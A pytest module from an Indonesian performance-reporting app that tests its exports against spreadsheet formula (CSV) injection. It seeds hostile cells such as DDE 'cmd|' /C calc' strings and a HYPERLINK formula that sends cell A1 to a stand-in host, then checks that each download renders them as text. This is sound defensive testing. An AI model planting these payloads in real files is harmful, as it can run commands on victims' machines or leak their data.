"""Formula injection (OWASP CSV injection): everything written for a person is scanned, 0 unsafe cells.

The store holds indicator names, a Sasaran, complaint categories and texts that start like a
formula (`=CMD|' /C calc'!A0`, `=HYPERLINK(…)`, `@SUM(…)`, `+…`, `-…`, a tab, a carriage return);
a file named `=HYPERLINK(…).xlsx` with a sheet named `=cmd|' -C calc'!A0` is uploaded. Every
download the pages offer and every CLI CSV report is then scanned for a cell a spreadsheet
would run (tests.helpers.formulas): none may be found, and the texts are still there.
"""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kinerja.exports import xlsx
from kinerja.exports.downloads import scorecard_views, scorecard_workbook, skipped_rows_workbook
from kinerja.services.importer import import_file
from kinerja.services.preview import annotated_copy, preview_file
from kinerja.store import readers as store
from kinerja.store.engine import connect
from kinerja.views import pengaduan as complaint_views
from kinerja.views.year import build_year
from tests.conftest import ADMIN
from tests.helpers.databases import blank_sqlite, copy_of, url
from tests.helpers.formulas import unsafe_csv, unsafe_xlsx
from tests.helpers.xlsx import COMPLAINT_HEADER, PK_HEADER, REAL_HEADER, Sheet, complaint_row, make_xlsx

TODAY = pd.Timestamp("2019-01-15")
CMD = "=CMD|' /C calc'!A0"
LINK = '=HYPERLINK("http://x.example/?d="&A1,"klik")'
HOSTILE = [CMD, LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]  # fmt: skip
FILE_NAME = '=HYPERLINK("http://x.example","a").xlsx'
SHEET = "=cmd|' -C calc'!A0"


def _book(*sheets: Sheet) -> bytes:
    """make_xlsx, but a text starting with `=` stays text (openpyxl would write it as a formula)."""
    book = openpyxl.load_workbook(io.BytesIO(make_xlsx(*sheets)))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _build(engine) -> None:
    pk = [PK_HEADER] + [
        ["Dinas Kesehatan", 2018, CMD if i == 0 else LINK, name, f"DINKES-{i + 1}", "%", 80, "positif", "akhir", None]
        for i, name in enumerate(HOSTILE[:5])
    ]  # fmt: skip
    real = [REAL_HEADER] + [["Dinas Kesehatan", 2018, 1, f"DINKES-{i + 1}", None, 70 + i] for i in range(5)]
    comp = [COMPLAINT_HEADER] + [
        complaint_row(f"KPG-{i}", Kategori=text, Uraian=text) for i, text in enumerate(HOSTILE)
    ]
    for name, data, kw in (("pk.xlsx", _book(Sheet("PK", pk)), {}),
                           ("real.xlsx", make_xlsx(Sheet("Realisasi", real)), {}),
                           ("aduan.xlsx", _book(Sheet("Pengaduan", comp)), {})):  # fmt: skip
        report = import_file(engine, data, name, scope=ADMIN, today=TODAY, **kw)
        assert report.stored, [p.line() for p in report.errors]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile store, built once (SQLite: the writers under test do not depend on the backend)."""
    path = copy_of(blank_sqlite(tmp_path_factory), tmp_path_factory.mktemp("formeln"), "hostile.db")
    engine = connect(url(path))
    _build(engine)
    engine.dispose()
    return path


@pytest.fixture
def db(built: Path, tmp_path: Path):
    engine = connect(url(copy_of(built, tmp_path)))
    yield engine
    engine.dispose()


def _texts(data: bytes | str) -> str:
    return data.decode("utf-8-sig") if isinstance(data, bytes) else data


@pytest.mark.parametrize(
    ("args", "neutralised"),
    [
        (["scorecard", "--year", "2018", "--month", "1"], "Dinas Kesehatan"),
        (["indicators", "--year", "2018", "--month", "1"], "'@SUM(1+1)"),
        (["complaints", "--year", "2018", "--by", "kategori"], "'+1+cmd"),
    ],  # fmt: skip
    ids=["scorecard", "indicators", "complaints"],
)
def test_cli_csv_reports_have_no_live_formula(db, run, args, neutralised) -> None:
    result = run(str(db.url), *args, "--format", "csv")
    assert result.rc == 0, result.err
    assert unsafe_csv(result.out) == []
    assert neutralised in result.out  # the hostile names are in the report, as text


def test_page_downloads_have_no_live_formula(db) -> None:
    frames = {"units": store.read_units(db), "pk": store.read_pk(db, tahun=2018),
              "realisasi": store.read_realisasi(db, tahun=2018), "pengaduan": store.read_pengaduan(db, tahun=2018)}  # fmt: skip
    data = build_year(frames, 2018, today=date(2019, 1, 15))
    book = scorecard_workbook(data, 1)
    assert unsafe_xlsx(book) == []
    views = scorecard_views(data, 1)
    csvs = {name: xlsx.to_csv(frame) for name, frame in views.items()}
    assert {name: unsafe_csv(c) for name, c in csvs.items()} == dict.fromkeys(views, [])
    assert any("'=CMD" in _texts(c) for c in csvs.values())  # the Sasaran/indicator texts were written
    daftar = complaint_views.complaint_list(complaint_views.complaint_rows(data, 12), for_screen=False)
    assert unsafe_csv(xlsx.to_csv(daftar)) == [] and unsafe_xlsx(xlsx.to_excel(daftar, "Pengaduan")) == []
    assert "'@SUM" in _texts(xlsx.to_csv(daftar))


def test_skipped_rows_marked_copy_and_report_have_no_live_formula(db) -> None:
    rows = [COMPLAINT_HEADER, complaint_row("KPG-90"), complaint_row("KPG-91", Status=CMD, Uraian=LINK)]
    bad = _book(Sheet("Pengaduan", rows), Sheet(SHEET, [["a"], [CMD]]))
    report = import_file(db, bad, FILE_NAME, scope=ADMIN, today=TODAY, partial=True)
    assert report.stored and report.skipped_rows == 1
    riwayat = skipped_rows_workbook(db, report.upload_id)
    assert riwayat is not None and unsafe_xlsx(riwayat) == []
    pv = preview_file(db, bad, FILE_NAME, scope=ADMIN, today=TODAY)
    assert not pv.ok
    csv = xlsx.to_csv(pv.report.to_frame())
    assert unsafe_csv(csv) == [] and "'=HYPERLINK" in _texts(csv)
    marked = annotated_copy(bad, pv)
    assert marked is not None
    assert unsafe_xlsx(bad) and unsafe_xlsx(marked) == []  # even the user's own cells come back as text


def test_the_scan_finds_what_an_unsafe_writer_writes(tmp_path: Path) -> None:
    """The scanners can fail: pandas' own writers leave these cells live."""
    frame = pd.DataFrame({"x": HOSTILE[:-1]})  # (a bare \r is not even valid CSV from pandas)
    assert len(unsafe_csv(frame.to_csv(index=False))) == len(HOSTILE) - 1
    path = tmp_path / "x.xlsx"
    frame.to_excel(path, index=False, engine="xlsxwriter")
    assert unsafe_xlsx(path.read_bytes())
